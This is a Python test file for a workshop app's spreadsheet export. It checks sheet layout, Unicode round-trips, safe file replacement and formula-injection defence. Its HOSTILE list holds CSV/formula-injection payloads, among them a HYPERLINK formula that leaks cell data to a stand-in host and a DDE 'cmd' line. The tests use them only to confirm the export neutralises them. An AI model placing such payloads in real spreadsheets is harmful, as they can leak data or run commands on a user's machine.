"""The action spreadsheet as a spreadsheet program sees it: sheets, types, drop-down, colours, and no formulas."""
from __future__ import annotations

import csv
import datetime as dt
import os
import re
import shutil
import subprocess
import zipfile
from pathlib import Path

import openpyxl
import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st
from sqlalchemy import text

from app import queries
from app.commands import actions
from app.errors import ValidationError
from app.spreadsheet import SpreadsheetError, export_workshop, export_xlsx, plan_import
from app.workshop import Workshop
from exports.xlsx import ACTION_HEADERS, CUT_MARK, MAX_CELL_CHARS, clean_text
from models import ACTION_STATUSES

HOSTILE = ["=1+1", '=HYPERLINK("http://example.com/?leak="&A1,"Click")', "@SUM(A1:A9)", "+cmd|' /C calc'!A0",
           "-2", "-2+3", "#N/A", "#DIV/0!", "=", "\t=1+1"]
UNICODE = ["Σύσκεψη πωλήσεων", "Встреча по продажам", "销售会议 営業会議",
           "Kick-off 🚀👩🏽‍💻", '<b>&"bold"</b> & \'x\'',
           "Ünïcödé — “quotes” … ½"]


def sheet_xml(path: Path) -> dict[str, str]:
    with zipfile.ZipFile(path) as zf:
        return {n: zf.read(n).decode("utf-8") for n in zf.namelist() if n.startswith("xl/worksheets/")}


def test_every_sheet_of_the_demo_with_its_layout(demo: Workshop, tmp_path: Path) -> None:
    out = tmp_path / "plan.xlsx"
    assert export_workshop(demo, out) == []
    wb = openpyxl.load_workbook(out)
    assert wb.sheetnames == ["Actions", "Goals & KPIs", "SLA commitments", "RACI", "Personas", "Meeting rota"]
    ws = wb["Actions"]
    assert tuple(c.value for c in ws[1]) == ACTION_HEADERS
    plan = demo.query(queries.actions)
    assert ws.max_row == len(plan) + 1
    for row, a in zip(ws.iter_rows(min_row=2), plan, strict=True):
        assert row[0].value == a.id and row[1].value == a.title and row[2].value == a.owner
        assert row[3].value == a.team and row[5].value == a.status
        assert isinstance(row[4].value, dt.datetime) and row[4].value.date() == a.due_on
        assert row[4].number_format == "yyyy-mm-dd" and row[4].is_date
    for sheet in wb:
        assert sheet.freeze_panes == "A2", sheet.title
        assert sheet.auto_filter.ref == f"A1:{openpyxl.utils.get_column_letter(sheet.max_column)}{sheet.max_row}"
        widths = [sheet.column_dimensions[openpyxl.utils.get_column_letter(i)].width
                  for i in range(1, sheet.max_column + 1)]
        assert all(4 <= w <= 62 for w in widths), (sheet.title, widths)
    assert ws.column_dimensions["B"].width > ws.column_dimensions["A"].width  # titles are wider than IDs
    assert ws["B2"].alignment.wrap_text and ws["H1"].alignment.wrap_text

    (dv,) = ws.data_validations.dataValidation
    assert dv.type == "list" and dv.formula1 == '"' + ",".join(ACTION_STATUSES) + '"'
    assert "F2" in dv.sqref and f"F{ws.max_row + 100}" in dv.sqref  # rows added by hand get it too
    (rules,) = list(ws.conditional_formatting)
    assert "E2" in rules.sqref
    (rule,) = rules.rules
    assert rule.formula == ['AND(ISNUMBER($E2),$E2<TODAY(),OR($F2="open",$F2="in progress"))']

    goals = wb["Goals & KPIs"]
    first = demo.query(queries.goals)[0]
    assert [c.value for c in goals[2]][:5] == [first.statement, first.metric, first.unit, first.baseline,
                                                first.target]
    assert isinstance(goals["F2"].value, dt.datetime)
    raci = wb["RACI"]
    people = demo.query(queries.participants)
    assert [c.value for c in raci[1]][1:-1] == [f"{p.name} ({p.department})" for p in people]
    activity = next(a for a in demo.query(queries.activities) if a.cells)
    assert [c.value or "" for c in raci[2]][1:-1] == [activity.letter_of(p.id) for p in people]
    sla = demo.query(queries.sla)
    assert wb["SLA commitments"].max_row == len(sla.commitments) + 1
    assert wb["SLA commitments"]["B2"].value == sla.commitments[0].text
    assert wb["Personas"]["A2"].value == demo.query(queries.personas)[0].name
    rota = demo.query(queries.rota_board)
    assert wb["Meeting rota"].max_row == len(rota.turns) + 1
    assert wb["Meeting rota"]["A2"].value.date() == rota.turns[0].week


def test_a_plan_with_no_other_rows_has_only_the_actions_sheet(plan: Workshop, tmp_path: Path) -> None:
    out = tmp_path / "plan.xlsx"
    export_workshop(plan, out)
    assert openpyxl.load_workbook(out).sheetnames == ["Actions"]


def test_an_overdue_rule_marks_only_open_work(plan: Workshop, tmp_path: Path) -> None:
    """The formula is ours: evaluate its logic on the exported values the way a spreadsheet would."""
    out = tmp_path / "plan.xlsx"
    export_workshop(plan, out)
    ws = openpyxl.load_workbook(out)["Actions"]
    formula = list(ws.conditional_formatting)[0].rules[0].formula[0]
    active = re.findall(r'\$F2="([^"]+)"', formula)
    assert tuple(active) == ("open", "in progress")
    assert "done" not in formula and "dropped" not in formula


def test_formula_like_text_is_written_as_text(plan: Workshop, tmp_path: Path) -> None:
    for i, _value in enumerate(HOSTILE):
        plan.apply(actions.add_action(title=f"hostile {i}"))
    # The form trims a leading tab; store each exactly as another tool could have.
    with plan.engine.begin() as conn:
        for i, value in enumerate(HOSTILE):
            conn.execute(text("UPDATE action SET title = :t, notes = :t WHERE title = :x"),
                         {"t": value, "x": f"hostile {i}"})
    out = tmp_path / "plan.xlsx"
    export_workshop(plan, out)
    wb = openpyxl.load_workbook(out)
    ws = wb["Actions"]
    cells = {r[1].value: r for r in ws.iter_rows(min_row=2)}
    for value in HOSTILE:
        row = cells[value]
        assert row[1].data_type == "s" and row[7].data_type == "s" and row[7].value == value
        assert row[1].quotePrefix and row[7].quotePrefix
    for name, xml in sheet_xml(out).items():
        assert not re.search(r"<f[ >/]", xml), f"a formula in {name}"
        assert "HYPERLINK" not in xml or "<is><t>=HYPERLINK" in xml
    # and the same through the read-only reader the import uses: text, never evaluated
    ro = openpyxl.load_workbook(out, read_only=True)
    values = {r[1] for r in ro["Actions"].iter_rows(min_row=2, values_only=True)}
    ro.close()
    assert set(HOSTILE) <= values


def test_every_user_text_cell_is_typed_text_with_a_quote_prefix(demo: Workshop, tmp_path: Path) -> None:
    out = tmp_path / "plan.xlsx"
    export_workshop(demo, out)
    wb = openpyxl.load_workbook(out)
    for ws in wb:
        for row in ws.iter_rows():
            for c in row:
                if isinstance(c.value, str):
                    assert c.data_type == "s" and c.quotePrefix, (ws.title, c.coordinate)


def test_unicode_comes_back_exactly(plan: Workshop, tmp_path: Path) -> None:
    for value in UNICODE:
        plan.apply(actions.add_action(title=value, notes=value + "\nline two\n  indented", owner_id=2))
    out = tmp_path / "plan.xlsx"
    export_workshop(plan, out)
    ws = openpyxl.load_workbook(out)["Actions"]
    got = {r[1]: r for r in ws.iter_rows(min_row=2, values_only=True)}
    for value in UNICODE:
        assert got[value][7] == value + "\nline two\n  indented"
        assert got[value][2] == "Марина Оксенко"
    report = plan_import(plan, out).report
    assert report.changes == () and report.problems == ()


def test_text_a_spreadsheet_cannot_hold_is_cleaned_with_a_warning(plan: Workshop, tmp_path: Path) -> None:
    long_notes = "word " * 10_000  # 50,000 characters
    with plan.engine.begin() as conn:  # an older version, or another tool, could have stored these
        conn.execute(text("UPDATE action SET title = :t, notes = :n WHERE id = 1"),
                     {"t": "bell\x07 nul\x00 end\uffff", "n": long_notes})
        conn.execute(text("UPDATE action SET notes = :n WHERE id = 2"), {"n": "a\r\nb\rc"})
    out = tmp_path / "plan.xlsx"
    warnings = export_workshop(plan, out)
    assert len(warnings) == 2
    assert "B2" in warnings[0] and "3 characters" in warnings[0]
    assert "H2" in warnings[1] and "cut" in warnings[1]
    ws = openpyxl.load_workbook(out)["Actions"]
    assert ws["B2"].value == "bell nul end"
    notes = ws["H2"].value
    assert len(notes) == MAX_CELL_CHARS
    dropped = len(long_notes) - (MAX_CELL_CHARS - len(CUT_MARK.format(n=len(long_notes))))
    assert notes.endswith(CUT_MARK.format(n=dropped)) and long_notes.startswith(notes[:30_000])
    assert ws["H3"].value == "a\nb\nc"  # line breaks as a spreadsheet writes them; no warning for that
    # Coming back unedited, a cleaned cell is not an edit: the workshop keeps its full text.
    report = plan_import(plan, out).report
    assert report.changes == () and report.problems == ()


def test_clean_text_never_leaves_unstorable_text() -> None:
    for value in ["", "plain", "\ud800 lone", "\x1f" * 40_000, "é" * 40_000 + "\x00"]:
        cleaned, _why = clean_text(value)
        assert len(cleaned) <= MAX_CELL_CHARS
        cleaned.encode("utf-8")
        assert not re.search("[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff]", cleaned)


def test_progress_counts_up_to_the_total(demo: Workshop, tmp_path: Path) -> None:
    seen: list[tuple[int, int]] = []
    export_workshop(demo, tmp_path / "plan.xlsx", progress=lambda done, total: seen.append((done, total)))
    assert seen and seen[-1][0] == seen[-1][1]
    assert [d for d, _t in seen] == sorted(d for d, _t in seen)
    assert len({t for _d, t in seen}) == 1


def test_a_failed_export_leaves_the_previous_file_as_it_was(plan: Workshop, tmp_path: Path,
                                                            monkeypatch: pytest.MonkeyPatch) -> None:
    out = tmp_path / "plan.xlsx"
    export_workshop(plan, out)
    before = out.read_bytes()
    plan.apply(actions.add_action(title="Something new"))
    calls = {"n": 0}
    real = zipfile.ZipFile.writestr

    def failing(self: zipfile.ZipFile, *args: object, **kwargs: object) -> None:
        calls["n"] += 1
        if calls["n"] == 4:  # some parts are already in the new file: the disk fills up
            raise OSError(28, "No space left on device")
        real(self, *args, **kwargs)

    monkeypatch.setattr(zipfile.ZipFile, "writestr", failing)
    with pytest.raises(SpreadsheetError, match="No space left|unchanged"):
        export_workshop(plan, out)
    assert calls["n"] == 4
    assert out.read_bytes() == before
    assert sorted(p.name for p in tmp_path.iterdir() if p.name.startswith(".")) == []  # no scratch file left
    monkeypatch.setattr(zipfile.ZipFile, "writestr", real)
    export_workshop(plan, out)
    assert out.read_bytes() != before


def test_an_unexpected_error_midway_also_leaves_the_file(plan: Workshop, tmp_path: Path,
                                                         monkeypatch: pytest.MonkeyPatch) -> None:
    out = tmp_path / "plan.xlsx"
    out.write_bytes(b"the previous export")
    from openpyxl.worksheet import _writer

    def boom(*_args: object) -> None:
        raise RuntimeError("writer bug")

    monkeypatch.setattr(_writer.WorksheetWriter, "write_rows", boom)
    with pytest.raises(RuntimeError):
        export_workshop(plan, out)
    assert out.read_bytes() == b"the previous export"
    assert [p.name for p in tmp_path.iterdir() if p.name.startswith(".")] == []


def test_headless_export_reads_a_snapshot_and_never_writes_the_workshop(plan: Workshop, tmp_path: Path) -> None:
    assert plan.path is not None
    before = plan.path.read_bytes()
    out = tmp_path / "headless.xlsx"
    assert export_xlsx(plan.path, out) == []
    assert plan.path.read_bytes() == before
    assert openpyxl.load_workbook(out)["Actions"].max_row == 4
    if os.name == "posix":
        assert out.stat().st_mode & 0o044  # shareable like any new file, not the scratch file's 0600


def test_an_export_never_replaces_the_workshop_itself(plan: Workshop) -> None:
    assert plan.path is not None
    before = plan.path.read_bytes()
    with pytest.raises(SpreadsheetError, match="workshop file itself"):
        export_workshop(plan, plan.path)
    with pytest.raises(SpreadsheetError, match="workshop file itself"):
        export_xlsx(plan.path, plan.path)
    assert plan.path.read_bytes() == before


@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice (soffice) is not installed")
def test_libreoffice_reads_the_values_intact(plan: Workshop, tmp_path: Path) -> None:
    for value in HOSTILE + UNICODE:
        plan.apply(actions.add_action(title="t", notes=value, due_on="2027-03-31"))
    out = tmp_path / "plan.xlsx"
    export_workshop(plan, out)
    profile = tmp_path / "lo-profile"
    subprocess.run(["soffice", f"-env:UserInstallation=file://{profile}", "--headless", "--convert-to",
                    "csv:Text - txt - csv (StarCalc):44,34,76,1", "--outdir", str(tmp_path), str(out)],
                   check=True, capture_output=True, timeout=120)
    with open(tmp_path / "plan.csv", encoding="utf-8", newline="") as fh:
        rows = list(csv.reader(fh))
    assert tuple(rows[0]) == ACTION_HEADERS
    notes = [r[7] for r in rows[4:]]
    # A leading tab is whitespace to LibreOffice's CSV writer only; the value itself is intact.
    assert [n.lstrip("\t") for n in notes] == [v.lstrip("\t") for v in HOSTILE + UNICODE]
    assert {r[4] for r in rows[4:]} == {"2027-03-31"}
    assert [r[1] for r in rows[1:4]] == ["Define MQL", "Lead feedback field", "Weekly pipeline review"]


@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(title=st.text(min_size=1, max_size=60).filter(lambda t: t.strip()), notes=st.text(max_size=200))
@example(title="=1+1", notes="\r\n  padded  \r\n")
@example(title="#REF!", notes="@SUM(1)\x00\ufffe")
def test_any_text_exports_and_comes_back_unchanged(plan: Workshop, tmp_path: Path, title: str, notes: str) -> None:
    """Whatever the commands store, the export writes it (cleaned by the stated policy only) and an unedited
    sheet imports as no change at all."""
    try:
        plan.apply(actions.edit_action(1, "title", title))
    except ValidationError:
        return  # the form refuses it too (nothing left once trimmed)
    plan.apply(actions.edit_action(1, "notes", notes))
    a = plan.query(queries.actions)[0]
    stored_notes = plan.query(lambda s: s.execute(text("SELECT notes FROM action WHERE id = 1")).scalar())
    out = tmp_path / "any.xlsx"
    assert export_workshop(plan, out) == []  # the commands already keep out what a spreadsheet cannot hold
    ws = openpyxl.load_workbook(out, read_only=True)["Actions"]
    row = next(ws.iter_rows(min_row=2, max_row=2, values_only=True))
    assert row[1] == clean_text(a.title)[0]
    assert (row[7] or "") == clean_text(stored_notes)[0]
    result = plan_import(plan, out)
    assert result.command is None and result.report.problems == ()
